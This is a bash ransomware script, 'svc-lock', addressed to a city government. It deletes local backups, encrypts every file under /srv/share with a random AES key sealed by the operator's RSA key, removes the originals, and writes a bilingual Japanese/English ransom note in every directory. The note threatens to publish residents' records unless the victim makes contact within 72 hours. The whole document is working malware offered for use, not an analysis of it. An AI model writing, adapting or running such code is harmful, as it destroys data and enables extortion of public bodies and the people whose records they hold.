#!/bin/bash
# svc-lock: encrypts /srv/share (AES-256-CBC, per-run random key). The key is sealed with the
# operator's RSA public key and written, sealed, into every ransom note; the plain key only
# ever lives in this process's environment.
PUB='__PUB__'
TARGET=/srv/share
NOTE=README_RESTORE.txt
tmp=$(mktemp)
echo "$PUB" | base64 -d > "$tmp"
LK=$(openssl rand -hex 32)
export LK
VID=$(printf %s "$LK" | openssl pkeyutl -encrypt -pubin -inkey "$tmp" | base64 -w0)
rm -f "$tmp"
# no way back: the local backup copies go first
rm -rf /srv/backup/* 2>/dev/null
find "$TARGET" -type f ! -name "$NOTE" ! -name '*.locked' -print0 |
while IFS= read -r -d '' f; do
    openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:LK -in "$f" -out "$f.locked" && rm -f "$f"
done
unset LK
find "$TARGET" -type d -print0 |
while IFS= read -r -d '' d; do
    cat > "$d/$NOTE" <<NOTE
==================== !!! みなと市役所の皆様へ / TO MINATO CITY !!! ====================

貴庁のファイルはすべて暗号化されました（AES-256）。拡張子 .locked のファイルは、
私たちの復号ツールなしには二度と開けません。バックアップも削除しました。
また、貴庁の重要なデータ（住民情報を含む）を私たちのサーバに保管しています。

72 時間以内に下記へ連絡しない場合、データを公開します。
ファイルを改名・移動したり、自分で復号しようとしたりしないでください。永久に失われます。

Your files have been encrypted (AES-256). Files ending in .locked cannot be opened
without our decryptor. Your backups have been deleted. We also hold a copy of your
important data (including residents' records).

Contact us within 72 hours or the data will be published.
Do not rename, move or try to decrypt the files yourself: they will be lost forever.

  連絡先 / Contact : support@kuronami-team.onion.example  (Tor)
  被害者ID / Victim ID (include it in your message):
$VID

==========================================================================================
NOTE
done
echo "done: $(find "$TARGET" -name '*.locked' | wc -l) files"
